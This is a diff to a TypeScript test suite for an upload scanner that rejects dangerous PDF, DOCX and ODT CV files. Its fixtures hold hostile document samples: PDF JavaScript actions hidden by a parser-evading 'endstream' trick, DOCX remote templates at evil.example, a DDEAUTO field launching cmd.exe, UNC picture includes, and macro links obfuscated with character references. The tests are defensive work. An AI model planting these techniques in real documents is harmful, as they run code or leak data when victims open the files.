@@ -1,7 +1,7 @@
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
-import { deflateSync } from 'node:zlib';
+import { deflateRawSync, deflateSync } from 'node:zlib';
 import { zip } from '../../test/forms';
 import { inspectUpload } from './uploads';
 
@@ -33,6 +33,42 @@ function pdf(action: string, { compressed = false, catalog = '/OpenAction 5 0 R'
     Buffer.from(`${head}4 0 obj<</Type/ObjStm/N 1/First ${first}/Filter/FlateDecode/Length ${data.length}>>stream\n`),
     data,
     Buffer.from('\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
+  ]);
+}
+/** Adler-32 of `bytes`, the checksum that ends a zlib stream. */
+function adler32(bytes: Buffer): number {
+  let a = 1;
+  let b = 0;
+  for (const byte of bytes) {
+    a = (a + byte) % 65521;
+    b = (b + a) % 65521;
+  }
+  return ((b << 16) | a) >>> 0;
+}
+/**
+ * A PDF whose object 5 (opened by the catalog) sits in an object stream whose zlib data starts with
+ * a stored block holding `(endstream)`, the action itself compressed after it.
+ */
+function endstreamInside(action: string): Buffer {
+  const plain = Buffer.from('5 0 <</T(endstream)', 'latin1');
+  const rest = Buffer.from(action.replace(/^<</, ''), 'latin1');
+  const stored = Buffer.alloc(5);
+  stored.writeUInt8(0, 0); // not the last block, stored
+  stored.writeUInt16LE(plain.length, 1);
+  stored.writeUInt16LE(~plain.length & 0xffff, 3);
+  const sum = Buffer.alloc(4);
+  sum.writeUInt32BE(adler32(Buffer.concat([plain, rest])));
+  const data = Buffer.concat([Buffer.from([0x78, 0x01]), stored, plain, deflateRawSync(rest), sum]);
+  return Buffer.concat([
+    Buffer.from(
+      '%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>endobj\n' +
+        '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n' +
+        '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>endobj\n' +
+        `4 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${data.length}>>stream\n`,
+      'latin1',
+    ),
+    data,
+    Buffer.from('\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n', 'latin1'),
   ]);
 }
 /** A page whose content stream is compressed and shows the given text. */
@@ -73,6 +109,16 @@ describe('PDF', () => {
     ['an escaped embedded-files tree', pdf('<<>>', { catalog: '/Names<</Embedded#46iles<</Names[]>>>>' })],
     ['a page action', pdf('<<>>', { catalog: '', extra: '/AA<</O<</S/JavaScript/JS(x)>>>>' })],
   ])('refuses %s', async (_label, bytes) => {
+    expect(await ext(bytes, 'cv.pdf')).toBeNull();
+  });
+
+  test.each([
+    // `stream` inside a string is no stream: what follows it is still the object's dictionary.
+    ['a word « stream » in a string', pdf('<</Length1 1/T(stream\n)/S/JavaScript/JS(app.alert(1))/U(endstream)>>')],
+    // The compressed data may hold the bytes `endstream`: the stream ends where its /Length says.
+    ['bytes « endstream » inside an object stream', endstreamInside('<</S/JavaScript/JS(app.alert(1))>>')],
+    ['escapes in lowercase hex there', endstreamInside('<</S/#4aavaScript/#4aS(app.alert(1))>>')],
+  ])('the parsed objects are read too: refuses %s', async (_label, bytes) => {
     expect(await ext(bytes, 'cv.pdf')).toBeNull();
   });
 
@@ -146,6 +192,72 @@ describe('DOCX', () => {
   ])('refuses %s', async (_label, bytes) => {
     expect(await ext(bytes, 'cv.docx')).toBeNull();
   });
+
+  // Word reads these parts with an XML parser: quotes, character references and part names as it does.
+  test.each([
+    [
+      'a remote template in single quotes',
+      `<Relationship Id='rId1' Type='${R}/attachedTemplate' Target='https://evil.example/t.dotm' TargetMode='External'/>`,
+    ],
+    [
+      'an external target mode written with character references',
+      `<Relationship Id="rId1" Type="${R}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="&#69;xtern&#x61;l"/>`,
+    ],
+    [
+      'a « > » inside an attribute before the target mode',
+      `<Relationship Id="rId1" Type="${R}/attachedTemplate" Target="https://evil.example/a>b" TargetMode="External"/>`,
+    ],
+    [
+      'a VBA relationship type written with a character reference',
+      '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/&#118;baProject" Target="data.bin"/>',
+    ],
+  ])('refuses %s', async (_label, relationship) => {
+    expect(await ext(docx([['word/_rels/settings.xml.rels', rels(relationship)]]), 'cv.docx')).toBeNull();
+  });
+
+  test('refuses a relationship part whose name is in capitals (part names ignore case)', async () => {
+    const template = `<Relationship Id="rId1" Type="${R}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`;
+    expect(await ext(docx([['word/_RELS/settings.xml.RELS', rels(template)]]), 'cv.docx')).toBeNull();
+  });
+
+  /** A main document part whose paragraph holds the given runs. */
+  const withBody = (runs: string) =>
+    zip(
+      [
+        ['[Content_Types].xml', CONTENT_TYPES],
+        [
+          'word/document.xml',
+          `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${runs}</w:p></w:body></w:document>`,
+        ],
+      ],
+      { deflate: true },
+    );
+  const field = (...instructions: string[]) =>
+    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
+    instructions.map((text) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`).join('') +
+    '<w:r><w:fldChar w:fldCharType="end"/></w:r>';
+
+  test('a DOCX with page and hyperlink fields passes', async () => {
+    const runs = field(' PAGE ') + field(' HYPERLINK "https://exemple.fr/profil" ');
+    expect(await ext(withBody(runs), 'cv.docx')).toBe('docx');
+  });
+
+  test.each([
+    ['a DDE field split over runs', field(' DDE', 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')],
+    ['a simple DDE field', '<w:fldSimple w:instr=" DDEAUTO c:\\\\x.exe &quot;a&quot; "/>'],
+    ['a picture included from a server', field(' INCLUDEPICTURE "\\\\\\\\evil\\\\share\\\\x.png" \\d ')],
+    ['a text included from a web page', field(' INCLUDETEXT "https://evil.example/x.docx" ')],
+  ])('refuses %s', async (_label, runs) => {
+    expect(await ext(withBody(runs), 'cv.docx')).toBeNull();
+  });
+
+  test('refuses a macro-enabled content type written with a character reference', async () => {
+    const types = CONTENT_TYPES.replace(
+      'wordprocessingml.document.main+xml',
+      'ms-word.document.m&#97;croEnabled.main+xml',
+    );
+    expect(await ext(docx([], types), 'cv.docx')).toBeNull();
+  });
 });
 
 const odt = (content: string, manifest = '') =>
@@ -171,6 +283,14 @@ describe('ODT', () => {
       odt(
         '<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main"/></office:event-listeners>',
       ),
+    ],
+    [
+      'a picture fetched from outside, in single quotes',
+      odt("<draw:image xlink:href='http://evil.example/pixel.png'/>"),
+    ],
+    [
+      'a macro link written with character references',
+      odt('<text:a xlink:href="vnd.sun.st&#97;r.script:Standard.Module1.Main">clic</text:a>'),
     ],
     [
       'a Basic library declared in the manifest under another name',
